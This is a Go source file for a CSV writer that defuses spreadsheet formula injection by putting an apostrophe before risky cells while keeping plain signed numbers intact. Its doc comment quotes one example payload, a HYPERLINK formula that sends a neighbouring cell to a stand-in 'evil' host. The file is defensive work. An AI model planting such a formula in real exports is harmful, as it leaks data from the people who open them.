// Package csvout is the one CSV writer for everything goeswell exports.
// It defuses spreadsheet formulas (CSV injection): a spreadsheet opening
// the file reads a cell starting with = + - @, a tab or a carriage return
// as a formula, so a team name like =HYPERLINK("http://evil/?"&A2) would
// run on a convener's machine with the data beside it. Such a cell gets an
// apostrophe before it, which spreadsheets show as text and do not
// evaluate.
//
// A plain number keeps its sign: -3 or +2.5 is a measure's value, not a
// formula, and an apostrophe would turn it into text in every spreadsheet
// that reads it. "Plain" is strict — digits with an optional sign, one
// decimal point and an exponent — so -1+2 or -2*A1 are still defused.
//
// Every export goes through NewWriter; a test greps the code base for
// encoding/csv writers elsewhere.
package csvout

import (
	"encoding/csv"
	"io"
	"regexp"
)

// A Writer writes defused CSV records.
type Writer struct {
	w   *csv.Writer
	buf []string
}

// NewWriter returns a Writer writing to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, every cell defused. The record passed in is not
// changed.
func (w *Writer) Write(record []string) error {
	w.buf = w.buf[:0]
	for _, c := range record {
		w.buf = append(w.buf, Cell(c))
	}
	return w.w.Write(w.buf)
}

// Flush writes any buffered data to the underlying writer.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports any error of a previous Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }

// plainNumber is a number a spreadsheet reads as a number and nothing
// else.
var plainNumber = regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$`)

// Cell returns s made safe to open in a spreadsheet.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		if !plainNumber.MatchString(s) {
			return "'" + s
		}
	}
	return s
}
